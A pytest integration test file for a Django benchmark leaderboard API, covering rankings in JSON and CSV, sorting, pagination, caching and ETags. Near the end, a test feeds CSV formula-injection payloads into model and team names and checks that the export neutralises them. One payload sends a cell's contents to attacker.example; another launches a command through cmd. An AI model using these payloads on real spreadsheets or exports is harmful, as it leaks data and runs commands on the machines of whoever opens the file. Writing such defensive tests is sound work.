"""The read endpoints (api/benchmarks.py, api/rankings.py): benchmarks, and a board's rankings
as JSON and CSV, with their ETag / Last-Modified revalidation."""

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from rest_framework.test import APIClient

from api.rankings import JSON_QUERY, RankingRowSerializer, RankingsQuerySerializer
from benchmark.enums import RankingScope
from benchmark.scoring.ranking import Entry, MetricSpec, RankingPolicy, rank_entries
from benchmark.services import update_benchmark
from submissions import services
from submissions.board_json import write_board_json
from submissions.enums import BoardKind, EvaluationStatus
from submissions.models import BoardEntry
from submissions.selectors import BoardSort, board_columns
from tests.accounts.factories import UserFactory, maintainer_user
from tests.benchmark.factories import BenchmarkFactory
from tests.submissions.factories import scored_entry

pytestmark = [pytest.mark.integration, pytest.mark.django_db]

METRIC_KEYS = [
    "CVS_acc",
    "NAP_acc",
    "SA_acc",
    "STG_mIoU",
    "TAG_mIoU@0.3",
    "TAG_mIoU@0.5",
    "DVC_F1",
    "DVC_llm",
    "VS_llm",
    "RC_llm",
]
JUDGE = ("DVC_llm", "VS_llm", "RC_llm")


@pytest.fixture(autouse=True)
def empty_cache():
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def client():
    return APIClient()


@pytest.fixture
def published(medvidbench, published_rows):
    """MedVidBench with the 15 published official rows of spec 7 on its board."""
    for row in published_rows:
        services.import_published_result(
            medvidbench,
            model_name=row.model_name,
            values=row.values,
            verified_at=datetime(
                row.published_on.year, row.published_on.month, row.published_on.day, tzinfo=UTC
            ),
            is_baseline=row.is_baseline,
            model_url=f"https://example.org/{row.model_name}",
        )
    services.recompute_board(medvidbench)
    return medvidbench


@pytest.fixture
def mixed(published):
    """The 15 official rows plus three community entries (one with its judge pending) and an
    evaluate-only one."""
    scored_entry(published, "Community-A", values(STG_mIoU=0.9), team_name="Team A")
    scored_entry(published, "Community-B", values(CVS_acc=0.99))
    scored_entry(
        published,
        "Community-Pending",
        values(**dict.fromkeys(JUDGE)),
        status=EvaluationStatus.SCORED,
    )
    scored_entry(published, "Evaluate-Only", values(CVS_acc=1.0, NAP_acc=1.0), publish=False)
    services.recompute_board(published)
    return published


def values(**overrides):
    return {**dict.fromkeys(METRIC_KEYS, 0.5), **overrides}


def rankings_url(benchmark, suffix=""):
    if suffix == ".csv":
        return reverse("api:rankings-csv", args=[benchmark.slug])
    return reverse("api:rankings", args=[benchmark.slug])


def get_rows(client, benchmark, **params):
    response = client.get(rankings_url(benchmark), {"page_size": 1000, **params})
    assert response.status_code == 200, response.content
    return response.json()["results"]


def parse_csv(content):
    return list(csv.reader(io.StringIO(content.decode())))


# --- benchmarks ------------------------------------------------------------------------------------


def test_the_list_shows_public_benchmarks_to_everyone_and_hidden_ones_to_maintainers(
    client, medvidbench
):
    BenchmarkFactory(slug="hidden", name="Hidden bench", is_public=False)
    staff = APIClient()
    staff.force_authenticate(maintainer_user())
    staff_without_the_role = APIClient()
    staff_without_the_role.force_authenticate(UserFactory(is_staff=True))

    anonymous = client.get(reverse("api:benchmark-list")).json()
    for_staff = staff.get(reverse("api:benchmark-list")).json()

    assert anonymous == [
        {
            "slug": "medvidbench",
            "name": "MedVidBench",
            "description": medvidbench.description,
            "is_public": True,
            "url": "http://testserver/api/v1/benchmarks/medvidbench/",
            "rankings_url": "http://testserver/api/v1/benchmarks/medvidbench/rankings/",
        }
    ]
    assert [row["slug"] for row in for_staff] == ["hidden", "medvidbench"]
    assert staff_without_the_role.get(reverse("api:benchmark-list")).json() == anonymous


def test_the_detail_has_metrics_tasks_policy_and_test_set_statistics_but_no_file(client, published):
    test_set = published.test_sets.get(is_active=True)
    judge_metric = published.metrics.get(key="DVC_llm")

    response = client.get(reverse("api:benchmark-detail", args=[published.slug]))

    body = response.json()
    assert response.status_code == 200
    assert [metric["key"] for metric in body["metrics"]] == METRIC_KEYS
    assert body["metrics"][7] == {
        "key": "DVC_llm",
        "label": "Dense video captioning, LLM judge",
        "description": judge_metric.description,
        "task": "dense_captioning",
        "direction": "higher",
        "is_judge_metric": True,
        "display_decimals": 3,
        "position": judge_metric.position,
    }
    assert body["tasks"] == [
        "cvs_assessment",
        "next_action",
        "skill_assessment",
        "stg",
        "tal",
        "dense_captioning",
        "video_summary",
        "region_caption",
    ]
    policy = body["ranking_policy"]
    assert (policy["tie_method"], policy["scope"], policy["decimals"]) == ("min", "global", 3)
    assert len(policy["tiebreakers"]) == 4
    assert body["test_set"] == {
        "version": 1,
        "checksum": test_set.checksum,
        "record_count": test_set.record_count,
        "qa_type_counts": test_set.qa_type_counts,
        "task_counts": test_set.task_counts,
        "dataset_counts": test_set.dataset_counts,
        "scorer_version": test_set.scorer_version,
        "imported_at": test_set.created_at.isoformat().replace("+00:00", "Z"),
    }
    assert body["boards"] == {"official": 15, "community": 0}
    assert test_set.file_name not in response.content.decode()
    assert "testsets" not in response.content.decode()


def test_an_unknown_benchmark_is_404_and_a_hidden_one_404_for_anonymous(client):
    hidden = BenchmarkFactory(is_public=False)
    staff = APIClient()
    staff.force_authenticate(maintainer_user())

    assert client.get(reverse("api:benchmark-detail", args=["nope"])).status_code == 404
    assert client.get(reverse("api:rankings", args=["nope"])).status_code == 404
    assert client.get(reverse("api:benchmark-detail", args=[hidden.slug])).status_code == 404
    assert client.get(rankings_url(hidden)).status_code == 404
    assert client.get(rankings_url(hidden, ".csv")).status_code == 404
    assert staff.get(reverse("api:benchmark-detail", args=[hidden.slug])).status_code == 200
    assert staff.get(rankings_url(hidden)).status_code == 200
    # In the API's envelope, with its code (docs/api.md, "Errors"), the CSV's too.
    not_found = {"detail": "No such benchmark.", "code": "not_found"}
    assert client.get(rankings_url(hidden)).json() == not_found
    assert client.get(rankings_url(hidden, ".csv")).json() == not_found
    assert client.get(reverse("api:benchmark-detail", args=["nope"])).json() == not_found


# --- rankings, JSON --------------------------------------------------------------------------------


def test_the_published_rows_match_the_board_entries_with_per_metric_ranks(client, published):
    entries = list(
        BoardEntry.objects.filter(benchmark=published).select_related("submission").order_by("rank")
    )
    expected = rank_entries(
        [
            Entry(entry.submission_id, entry.submission.model_name, entry.values)
            for entry in entries
        ],
        [MetricSpec(key) for key in METRIC_KEYS],
        RankingPolicy("min", 3),
    )

    response = client.get(rankings_url(published))

    page = response.json()
    rows = page["results"]
    assert (page["benchmark"], page["board"], page["count"]) == ("medvidbench", "official", 15)
    assert (page["next"], page["previous"]) == (None, None)
    assert page["metrics"] == METRIC_KEYS
    assert [row["rank"] for row in rows] == [entry.rank for entry in entries] == list(range(1, 16))
    assert [row["model"] for row in rows] == [entry.submission.model_name for entry in entries]
    assert [row["mean_rank"] for row in rows] == [entry.mean_rank for entry in entries]
    assert [row["wins"] for row in rows] == [entry.wins for entry in entries]
    for row, entry, place in zip(rows, entries, expected, strict=True):
        assert {key: cell["value"] for key, cell in row["metrics"].items()} == entry.values
        assert {key: cell["ranked_value"] for key, cell in row["metrics"].items()} == {
            key: round(value, 3) for key, value in entry.values.items()
        }
        assert {key: cell["rank"] for key, cell in row["metrics"].items()} == dict(
            place.metric_ranks
        )
        assert row["tiebreakers"] == {
            "wins": entry.wins,
            "rank_sum": place.rank_sum,
            "normalized_sum": place.normalized_sum,
        }
    top = rows[0]
    assert top["model"] == "uAI-NEXUS-MedVLM-1.0b-4B-RL"
    assert (round(top["mean_rank"], 1), top["wins"]) == (1.9, 6)
    assert top["board"] == "official"
    assert top["verified"] is True
    assert top["verified_at"] == "2026-04-15T00:00:00Z"
    assert top["date"] == "2026-04-15T00:00:00Z"
    assert top["imported"] is True
    assert top["model_url"] == "https://example.org/uAI-NEXUS-MedVLM-1.0b-4B-RL"
    assert top["submitted_at"] == entries[0].submission.created_at.isoformat().replace(
        "+00:00", "Z"
    )
    assert [row["model"] for row in rows if row["is_baseline"]][:1] == ["GPT-5.4"]


def test_every_row_has_exactly_the_documented_fields(client, mixed):
    rows = get_rows(client, mixed, board="all")

    documented = set(RankingRowSerializer().fields)
    assert {frozenset(row) for row in rows} == {frozenset(documented)}
    assert RankingRowSerializer(data=rows, many=True).is_valid()


def test_the_board_parameter_picks_the_table_and_ranks_stay_global(client, mixed):
    official = get_rows(client, mixed)
    community = get_rows(client, mixed, board="community")
    everyone = get_rows(client, mixed, board="all")

    assert len(official) == 15
    assert {row["board"] for row in official} == {"official"}
    assert [row["model"] for row in community] == [
        entry.submission.model_name
        for entry in BoardEntry.objects.filter(benchmark=mixed, board=BoardKind.COMMUNITY)
        .select_related("submission")
        .order_by("rank")
    ]
    assert {row["board"] for row in community} == {"community"}
    assert [row["rank"] for row in everyone] == list(range(1, 19))
    assert sorted(row["rank"] for row in official + community) == list(range(1, 19))
    pending = next(row for row in community if row["model"] == "Community-Pending")
    assert pending["judge_pending"] is True
    assert pending["metrics"]["DVC_llm"] == {
        "value": None,
        "ranked_value": None,
        "rank": 18,
        "interval": None,
    }
    assert next(row for row in community if row["model"] == "Community-A")["team"] == "Team A"
    assert next(row for row in community if row["model"] == "Community-B")["team"] == (
        "Test University"
    )


def test_a_judge_metric_accepted_over_a_subset_says_how_many_items_it_excludes(client, medvidbench):
    partial = scored_entry(medvidbench, "Partial", values())
    run = partial.evaluations.get()
    run.result = {
        "counts": {
            "VS_llm": {"scored": 2460, "total": 2472},
            "RC_llm": {"scored": 306, "total": 306},
        }
    }
    run.save(update_fields=["result"])
    scored_entry(medvidbench, "Whole", values())
    services.recompute_board(medvidbench)

    rows = {row["model"]: row for row in get_rows(client, medvidbench, board="community")}

    assert rows["Partial"]["judged_over"] == {"VS_llm": {"judged": 2460, "items": 2472}}
    assert rows["Whole"]["judged_over"] == {}
    csv_text = client.get(rankings_url(medvidbench, ".csv"), {"board": "community"}).content
    header, *lines = parse_csv(csv_text)
    column = header.index("judged_over")
    assert {line[1]: line[column] for line in lines} == {
        "Partial": "VS_llm 2460/2472",
        "Whole": "",
    }


def test_an_evaluate_only_entry_never_appears(client, mixed):
    for board in ("official", "community", "all"):
        assert "Evaluate-Only" not in [row["model"] for row in get_rows(client, mixed, board=board)]
        exported = client.get(rankings_url(mixed, ".csv"), {"board": board}).content
        assert b"Evaluate-Only" not in exported


def test_per_board_scope_ranks_each_table_on_its_own_rows(client, mixed):
    update_benchmark(mixed, actor=None, ranking_scope=RankingScope.PER_BOARD)
    services.recompute_board(mixed)

    community = get_rows(client, mixed, board="community")
    everyone = get_rows(client, mixed, board="all")

    assert [row["rank"] for row in community] == [1, 2, 3]
    assert {row["metrics"]["CVS_acc"]["rank"] for row in community} == {1, 2}
    assert len(everyone) == 18
    assert [(row["rank"], row["submission_id"]) for row in everyone] == sorted(
        (row["rank"], row["submission_id"]) for row in everyone
    )


@pytest.mark.parametrize("direction", ["asc", "desc"])
def test_sorting_by_a_metric_orders_by_its_value_with_missing_values_last(client, mixed, direction):
    rows = get_rows(client, mixed, board="all", sort="DVC_llm", direction=direction)

    present = [row for row in rows if row["metrics"]["DVC_llm"]["value"] is not None]
    values_in_order = [row["metrics"]["DVC_llm"]["value"] for row in present]
    assert values_in_order == sorted(values_in_order, reverse=direction == "desc")
    assert [row["model"] for row in rows[len(present) :]] == ["Community-Pending"]
    assert len(rows) == 18


def test_sorting_defaults_to_best_first_and_keeps_the_rank(client, published):
    rows = get_rows(client, published, sort="STG_mIoU")
    by_model = get_rows(client, published, sort="model", direction="desc")
    by_rank = get_rows(client, published, sort="rank", direction="desc")

    stg = [row["metrics"]["STG_mIoU"]["value"] for row in rows]
    assert stg == sorted(stg, reverse=True)
    assert sorted(row["rank"] for row in rows) == list(range(1, 16))
    names = [row["model"] for row in by_model]
    assert names == sorted(names, key=str.casefold, reverse=True)
    assert [row["rank"] for row in by_rank] == list(range(15, 0, -1))


def test_pages_are_stable_and_add_up_to_the_whole_board(client, mixed):
    whole = get_rows(client, mixed, board="all", sort="CVS_acc")
    pages, url = [], rankings_url(mixed) + "?board=all&sort=CVS_acc&page_size=4"
    while url:
        page = client.get(url).json()
        pages.append(page)
        url = page["next"]

    rows = [row for page in pages for row in page["results"]]
    assert len(pages) == 5
    assert [page["count"] for page in pages] == [18] * 5
    assert [len(page["results"]) for page in pages] == [4, 4, 4, 4, 2]
    assert rows == whole
    assert len({row["submission_id"] for row in rows}) == 18
    assert pages[0]["previous"] is None
    assert pages[1]["previous"] == (
        "http://testserver/api/v1/benchmarks/medvidbench/rankings/"
        "?board=all&sort=CVS_acc&direction=desc&page=1&page_size=4"
    )
    assert client.get(rankings_url(mixed), {"page": 6, "page_size": 4}).status_code == 404


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"board": "unofficial"}, "board"),
        ({"direction": "up"}, "direction"),
        ({"page": 0}, "page"),
        ({"page_size": 1001}, "page_size"),
    ],
)
def test_invalid_parameters_are_refused_by_name(client, published, params, field):
    response = client.get(rankings_url(published), params)

    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json()["code"] == "invalid"
    assert list(response.json()["errors"]) == [field]


def test_a_sort_by_a_column_the_benchmark_does_not_have_is_404_naming_its_columns(
    client, published
):
    response = client.get(rankings_url(published), {"sort": "accuracy"})

    assert response.status_code == 404
    assert response.json()["code"] == "not_found"
    assert response.json()["detail"].startswith(
        f"{published.name} has no column 'accuracy': sort by one of: rank, model, team, date, "
    )


# --- rankings, CSV ---------------------------------------------------------------------------------


def test_the_csv_has_the_board_columns_first_and_the_json_values(client, mixed):
    rows = get_rows(client, mixed, board="all")

    response = client.get(rankings_url(mixed), {"board": "all", "format": "csv"})

    header, *lines = parse_csv(response.content)
    board_order = [column.key for column in board_columns(list(mixed.metrics.all()), BoardSort())]
    assert board_order == ["rank", "model", "team", *METRIC_KEYS, "date"]
    assert header[: len(board_order)] == board_order
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert len(lines) == len(rows) == 18
    for line, row in zip(lines, rows, strict=True):
        cells = dict(zip(header, line, strict=True))
        assert (int(cells["rank"]), cells["model"], cells["team"]) == (
            row["rank"],
            row["model"],
            row["team"],
        )
        for key in METRIC_KEYS:
            metric = row["metrics"][key]
            assert cells[key] == ("" if metric["value"] is None else repr(metric["value"]))
            assert float(cells[key] or "nan") == metric["value"] or metric["value"] is None
            assert cells[f"{key}_ranked_value"] == (
                "" if metric["ranked_value"] is None else repr(metric["ranked_value"])
            )
            assert int(cells[f"{key}_rank"]) == metric["rank"]
        assert cells["date"] == row["date"]
        assert cells["verified"] == ("true" if row["verified"] else "false")
        assert float(cells["mean_rank"]) == row["mean_rank"]
        assert float(cells["normalized_sum"]) == row["tiebreakers"]["normalized_sum"]
        assert int(cells["submission_id"]) == row["submission_id"]


def test_the_csv_is_named_after_the_benchmark_board_and_day(client, published):
    computed_at = BoardEntry.objects.filter(benchmark=published).first().computed_at

    response = client.get(rankings_url(published, ".csv"), {"board": "community"})

    day = computed_at.date().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="medvidbench-community-rankings-{day}.csv"'
    )
    assert parse_csv(response.content)[1:] == []


def test_the_csv_url_and_the_format_parameter_give_the_same_whole_board(client, mixed):
    suffix = client.get(rankings_url(mixed, ".csv"), {"board": "all", "page_size": 2})
    parameter = client.get(rankings_url(mixed), {"board": "all", "format": "csv"})
    accepted = client.get(rankings_url(mixed), {"board": "all"}, HTTP_ACCEPT="text/csv")

    assert suffix.content == parameter.content == accepted.content
    assert len(parse_csv(suffix.content)) == 19
    assert suffix["ETag"] == parameter["ETag"]


# --- revalidation ---------------------------------------------------------------------------------


def test_an_unchanged_board_answers_304_without_reading_rows(client, published):
    first = client.get(rankings_url(published))
    etag, last_modified = first["ETag"], first["Last-Modified"]

    with CaptureQueriesContext(connection) as queries:
        again = client.get(rankings_url(published), HTTP_IF_NONE_MATCH=etag)
    by_date = client.get(rankings_url(published), HTTP_IF_MODIFIED_SINCE=last_modified)

    computed_at = BoardEntry.objects.filter(benchmark=published).first().computed_at
    assert re.fullmatch(r'"[0-9a-f]{32}"', etag)
    assert last_modified == computed_at.strftime("%a, %d %b %Y %H:%M:%S GMT")
    assert first["Cache-Control"] == "no-cache, public"
    assert (again.status_code, again.content) == (304, b"")
    assert again["ETag"] == etag
    assert again["Last-Modified"] == last_modified
    assert not [query for query in queries.captured_queries if "model_name" in query["sql"]]
    assert (by_date.status_code, by_date.content) == (304, b"")


def test_the_etag_differs_by_format_board_and_parameters(client, published):
    url = rankings_url(published)
    etags = {
        client.get(url)["ETag"],
        client.get(url, {"format": "csv"})["ETag"],
        client.get(url, {"board": "all"})["ETag"],
        client.get(url, {"sort": "CVS_acc"})["ETag"],
        client.get(url, {"page_size": 5})["ETag"],
    }

    assert len(etags) == 5
    # Spelling out a default changes nothing: the same body, the same ETag.
    assert client.get(url, {"board": "official", "page": 1})["ETag"] == client.get(url)["ETag"]


def test_a_recompute_changes_the_etag_and_the_body(client, published):
    first = client.get(rankings_url(published), {"board": "all"})

    scored_entry(published, "Newcomer", values(CVS_acc=1.0))
    services.recompute_board(published)
    second = client.get(rankings_url(published), {"board": "all"}, HTTP_IF_NONE_MATCH=first["ETag"])

    assert second.status_code == 200
    assert second["ETag"] != first["ETag"]
    assert second.json()["count"] == 16
    assert second.json()["computed_at"] > first.json()["computed_at"]


def test_a_hidden_benchmark_is_not_cached_by_shared_caches(published):
    update_benchmark(published, actor=None, is_public=False)
    staff = APIClient()
    staff.force_authenticate(maintainer_user())

    response = staff.get(rankings_url(published))

    assert response.status_code == 200
    assert response["Cache-Control"] == "no-cache, private"


def own_queries(queries):
    """The queries of the view itself: the throttles' (an upsert and an update of
    api_throttlehistory) come on top of every API request and are not this module's."""
    return [
        query["sql"]
        for query in queries.captured_queries
        if not any(
            table in query["sql"]
            for table in ("podium_shared_cache", "api_throttlehistory", "SAVEPOINT")
        )
    ]


@pytest.mark.parametrize("suffix", ["", ".csv"])
@pytest.mark.parametrize("entries", [1, 3])
def test_the_query_count_does_not_grow_with_the_board(client, medvidbench, suffix, entries):
    for number in range(entries):
        scored_entry(medvidbench, f"Model-{number}", values(CVS_acc=number / 10))
    services.recompute_board(medvidbench)
    url = rankings_url(medvidbench, suffix)

    with CaptureQueriesContext(connection) as built:
        first = client.get(url, {"board": "all"})
    with CaptureQueriesContext(connection) as cached:
        second = client.get(url, {"board": "all"})
    with CaptureQueriesContext(connection) as by_metric:
        client.get(url, {"board": "all", "sort": "CVS_acc"})
    write_board_json(medvidbench)  # the rows' stored JSON (issue 16), as the recompute queues
    cache.clear()
    with CaptureQueriesContext(connection) as stored:
        third = client.get(url, {"board": "all"})

    # Built: the benchmark, the board's computed_at, the metrics, then the rows with their
    # submissions in one query (the JSON: after a read of the stored JSON found none).
    # Cached (or a 304): the first two only. Sorting by a metric reads the metrics to check
    # the key, whether the body is cached or not, and a page looks for the stored order
    # (none before its writer has run: the database sorts). With the stored JSON: its read,
    # not the rows'.
    json_probe = 0 if suffix == ".csv" else 1
    assert len(own_queries(built)) == 4 + json_probe
    assert len(own_queries(cached)) == 2
    assert len(own_queries(by_metric)) == 4 + 2 * json_probe
    assert len(own_queries(stored)) == 4
    assert first.content == second.content == third.content


def test_the_canonical_parameters_are_the_query_serializers_fields():
    assert list(RankingsQuerySerializer().fields) == list(JSON_QUERY)


FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]


def test_the_csv_neutralises_formulas_in_text_cells_and_the_json_keeps_them(client, medvidbench):
    for number, formula in enumerate(FORMULAS):
        scored_entry(medvidbench, formula, values(CVS_acc=0.1 * (number + 1)), team_name=formula)
    services.recompute_board(medvidbench)

    csv_text = client.get(rankings_url(medvidbench, ".csv"), {"board": "community"}).content
    header, *lines = parse_csv(csv_text)
    rows = get_rows(client, medvidbench, board="community")

    by_column = [dict(zip(header, line, strict=True)) for line in lines]
    # A leading quote, and the pipe escaped, as defusedcsv writes them.
    expected = {"'" + formula.replace("|", "\\|") for formula in FORMULAS}
    assert {cells["model"] for cells in by_column} == expected
    assert {cells["team"] for cells in by_column} == expected
    assert {row["model"] for row in rows} == set(FORMULAS)
    assert {row["team"] for row in rows} == set(FORMULAS)
    # Numbers are never quoted: a negative tiebreaker or metric stays a number.
    assert all(cells["CVS_acc"][0].isdigit() for cells in by_column)


# --- a lexicographic benchmark (issue 14) ----------------------------------------------------------


@pytest.fixture
def lexicographic(published, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        update_benchmark(
            published,
            actor=None,
            ranking_method="lexicographic",
            ranking_order=["STG_mIoU", "CVS_acc"],
        )
    return published


def test_the_detail_says_a_lexicographic_method_and_its_order(client, lexicographic):
    policy = client.get(reverse("api:benchmark-detail", args=[lexicographic.slug])).json()[
        "ranking_policy"
    ]

    assert policy == {
        "method": "lexicographic",
        "method_label": "By an ordered list of metrics",
        "metric_order": ["STG_mIoU", "CVS_acc"],
        "tie_method": "min",
        "tie_method_label": "Shared smaller rank (1, 1, 3)",
        "scope": "global",
        "scope_label": "All entries (official and community together)",
        "decimals": 3,
        "order": "By STG_mIoU, then CVS_acc: the first metric decides, a tie on it is broken by "
        "the next, each compared after rounding and in its metric's direction.",
        "missing": policy["missing"],
        "tiebreakers": ["Model name, case-insensitively."],
    }


def test_the_detail_of_a_mean_rank_benchmark_says_so(client, published):
    policy = client.get(reverse("api:benchmark-detail", args=[published.slug])).json()[
        "ranking_policy"
    ]

    assert (policy["method"], policy["metric_order"], policy["order"]) == (
        "mean_rank",
        [],
        "Mean rank over the metrics, lower is better.",
    )


def test_a_lexicographic_board_is_in_the_orders_order_with_every_statistic(client, lexicographic):
    rows = get_rows(client, lexicographic)

    # The rule, written out: STG_mIoU then CVS_acc at 3 decimals, higher first, then the name.
    def by_rule(row):
        cells = row["metrics"]
        return (
            -round(cells["STG_mIoU"]["value"], 3),
            -round(cells["CVS_acc"]["value"], 3),
            row["model"].casefold(),
        )

    assert [row["rank"] for row in rows] == list(range(1, 16))
    assert rows == sorted(rows, key=by_rule)
    assert rows[0]["model"] == "uAI-NEXUS-MedVLM-1.0a-7B-RL"  # STG_mIoU 0.202, the best
    # Per-metric ranks and the mean rank stay those of the mean-rank method.
    entries = BoardEntry.objects.filter(benchmark=lexicographic).select_related("submission")
    by_mean = {
        place.name: place
        for place in rank_entries(
            [Entry(e.submission_id, e.submission.model_name, e.values) for e in entries],
            [MetricSpec(key) for key in METRIC_KEYS],
        )
    }
    for row in rows:
        place = by_mean[row["model"]]
        assert row["mean_rank"] == place.mean_rank
        assert {key: cell["rank"] for key, cell in row["metrics"].items()} == dict(
            place.metric_ranks
        )
        assert row["tiebreakers"]["rank_sum"] == place.rank_sum
